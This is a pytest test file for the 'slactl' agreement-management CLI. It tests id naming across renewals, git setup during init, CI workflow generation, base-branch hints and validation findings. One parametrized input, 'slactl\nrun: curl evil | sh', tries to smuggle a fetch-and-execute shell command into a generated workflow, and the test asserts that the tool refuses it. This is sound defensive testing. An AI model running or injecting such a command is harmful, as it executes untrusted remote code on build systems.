"""The names a new user meets first (issue 12): `new` puts the term in the id, `renew` names the
next term after its fiscal year, so a renewal chain reads finance-desk-fy2027 -> -fy2028 -> -fy2029."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from slactl.cli import main
from slactl.documents import load_valid


def run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(list(args))
    captured = capsys.readouterr()
    assert code == 0, captured.out + captured.err
    return captured.out + captured.err


def ident(path: Path) -> tuple[str, str | None]:
    meta = load_valid(path).document.metadata  # type: ignore[union-attr]
    return meta.id, meta.renews


def test_new_then_renew_names_each_term(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    desk = tmp_path / "agreements" / "finance-desk.yaml"
    run(capsys, "new", str(desk), "--fiscal-year", "FY2027", "--no-input")
    assert ident(desk) == ("finance-desk-fy2027", None)
    out = run(capsys, "renew", str(desk))
    nxt = tmp_path / "agreements" / "finance-desk-fy2028.yaml"
    assert str(nxt) in out
    assert ident(nxt) == ("finance-desk-fy2028", "finance-desk-fy2027")
    run(capsys, "renew", str(nxt))
    assert ident(tmp_path / "agreements" / "finance-desk-fy2029.yaml") == ("finance-desk-fy2029", "finance-desk-fy2028")


@pytest.mark.parametrize(
    ("name", "args", "expected"),
    [
        ("its-fy2027-nrcs.yaml", ["--fiscal-year", "FY2027"], "its-fy2027-nrcs"),  # the name has the term
        ("desk.yaml", ["--start", "2027-01-01", "--end", "2027-12-31"], "desk-2027"),  # not a fiscal year
        ("desk-2027.yaml", ["--start", "2027-01-01", "--end", "2027-12-31"], "desk-2027"),
    ],
)
def test_new_keeps_a_term_the_name_already_has(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, args: list[str], expected: str
) -> None:
    path = tmp_path / name
    run(capsys, "new", str(path), *args, "--no-input")
    assert ident(path)[0] == expected


def test_renew_moves_a_calendar_year_in_the_id(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    desk = tmp_path / "desk.yaml"
    run(capsys, "new", str(desk), "--start", "2027-01-01", "--end", "2027-12-31", "--no-input")
    run(capsys, "renew", str(desk))
    assert ident(tmp_path / "desk-2028.yaml") == ("desk-2028", "desk-2027")


def isolated_git(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    """No global or system git settings: the user of the test machine is nobody's roster entry."""
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


def test_init_makes_git_and_says_what_it_could_not_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    repo = tmp_path / "r"
    out = run(capsys, "init", str(repo))
    assert (repo / ".git").is_dir()
    assert f"git: initialized a repository in {repo} (`git init`)" in out
    assert "people: git has no user.name/user.email here, so nobody was added" in out
    assert (repo / ".gitignore").read_text().splitlines()[-1] == "/out/"
    assert yaml.safe_load((repo / "slactl.yaml").read_text())["people"] == []


def test_init_inside_a_repository_or_with_no_git_runs_no_git_init(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    outer = tmp_path / "outer"
    run(capsys, "init", str(outer))
    out = run(capsys, "init", str(outer / "team-a"))
    assert "git init" not in out and not (outer / "team-a" / ".git").exists()
    out = run(capsys, "init", str(tmp_path / "plain"), "--no-git")
    assert "initialized a repository" not in out and not (tmp_path / "plain" / ".git").exists()


def test_init_adds_the_git_user_with_their_ssh_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    key = tmp_path / "home" / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "dana@laptop", "-f", str(key)], check=True)
    for name, value in (("user.name", "Dana Whitfield"), ("user.email", "dana@example.org"), ("gpg.format", "ssh"),
                        ("user.signingkey", f"{key}.pub")):  # fmt: skip
        subprocess.run(["git", "config", "--global", name, value], check=True)
    repo = tmp_path / "r"
    run(capsys, "init", str(repo))
    [person] = yaml.safe_load((repo / "slactl.yaml").read_text())["people"]
    public = " ".join(Path(f"{key}.pub").read_text().split()[:2])  # the key without its comment
    assert person == {
        "name": "Dana Whitfield",
        "email": "dana@example.org",
        "roles": ["management", "legal", "internal-review", "signatory"],
        "ssh_keys": [public],
    }


def test_the_workflow_installs_slactl_as_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    spec = "slactl @ git+https://git.example.org/tools/slactl@v0.1.0"
    out = run(capsys, "init", str(tmp_path / "r"), "--no-git", "--install", spec)
    assert "SLACTL_INSTALL" not in out  # nothing left to set
    workflow = yaml.safe_load((tmp_path / "r" / ".github" / "workflows" / "slactl.yml").read_text())
    [step] = [s for s in workflow["jobs"]["validate"]["steps"] if s.get("name") == "Install slactl"]
    assert step["env"]["SLACTL_DEFAULT"] == spec
    assert step["env"]["SLACTL_INSTALL"] == "${{ vars.SLACTL_INSTALL }}"
    assert 'pip install "$spec"' in step["run"]


@pytest.mark.parametrize("spec", ["", "slactl\nrun: curl evil | sh", "x" * 600])
def test_a_bad_install_requirement_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str) -> None:
    code = main(["init", str(tmp_path / "r"), "--no-git", "--install", spec])
    err = capsys.readouterr().err
    assert code == 2 and "--install is a pip requirement on one line" in err
    assert not (tmp_path / "r" / ".github").exists()


def git(cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=Dana", "-c", "user.email=dana@example.org", *args],
        cwd=cwd, check=True, capture_output=True,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("branch", "remote", "hint"),
    [
        ("main", False, "hint: this repository has no remote; its default branch is main: --base main"),
        ("trunk", False, "hint: this repository has no remote and no main or master branch: give a branch, tag"),
        ("main", True, "hint: fetch it first (`git fetch --all`), or give --base main"),
    ],
)
def test_an_unknown_base_says_what_to_give_instead(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    branch: str,
    remote: bool,
    hint: str,
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", branch)
    desk = repo / "desk.yaml"
    run(capsys, "new", str(desk), "--fiscal-year", "FY2027", "--no-input")
    git(repo, "add", "desk.yaml")
    git(repo, "commit", "-q", "-m", "draft")
    if remote:
        git(repo, "remote", "add", "origin", str(tmp_path / "nowhere"))
    monkeypatch.chdir(repo)
    code = main(["status", "--base", "origin/main"])
    err = capsys.readouterr().err
    assert code == 2
    assert "--base 'origin/main' names no commit here" in err
    assert hint in err


ITHR = Path(__file__).resolve().parents[2] / "examples" / "it-hr-support-fy2027.yaml"


def codes_of(capsys: pytest.CaptureFixture[str], path: Path) -> list[tuple[str, str]]:
    import json

    main(["validate", "--format", "json", str(path)])
    return [(f["code"], f["path"]) for f in json.loads(capsys.readouterr().out)["findings"]]


def test_one_run_reports_schema_and_semantic_findings(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ITHR.read_text()
    text = text.replace("  end: 2027-09-30", "  end: 2026-09-30")  # SLA100: the term ends before it starts
    text = text.replace("target: 30 minutes", "target: 30 minuets", 1)  # a schema error
    bad = tmp_path / "desk.yaml"
    bad.write_text(text)
    found = codes_of(capsys, bad)
    assert ("SLA100", "term.end") in found  # the semantic rule ran ...
    assert any(code.startswith("SLA02") and path.startswith("service_levels") for code, path in found)  # ... beside it
    # The service levels were set aside: nothing is said about them or what refers to them.
    assert not any(code in ("SLA305", "SLA306", "SLA136") for code, _ in found)


def test_a_schema_error_in_a_required_section_runs_no_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ITHR.read_text().replace("  end: 2027-09-30", "  end: 2026-09-30")
    text = text.replace("  start: 2026-10-01", "  start: 2026-10-01\n  stop: 2026-10-02")  # term has an unknown key
    bad = tmp_path / "desk.yaml"
    bad.write_text(text)
    found = codes_of(capsys, bad)
    assert [code for code, _ in found] == ["SLA021"]  # the term could not be read: nothing to judge it by


def test_diff_without_a_default_branch_compares_with_the_root_commit_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    isolated_git(monkeypatch, tmp_path / "home")
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "trunk")
    desk = repo / "desk.yaml"
    run(capsys, "new", str(desk), "--fiscal-year", "FY2027", "--no-input", "--title", "First title")
    git(repo, "add", "desk.yaml")
    git(repo, "commit", "-q", "-m", "draft")
    desk.write_text(desk.read_text().replace("First title", "Second title"))
    git(repo, "commit", "-q", "-am", "retitle")
    desk.write_text(desk.read_text().replace("Second title", "Third title"))
    monkeypatch.chdir(repo)
    out = run(capsys, "diff")
    assert "(root commit: no main or master branch) → the working tree" in out.splitlines()[0]
    assert "First title" in out and "Third title" in out  # everything the branch changed, both commits
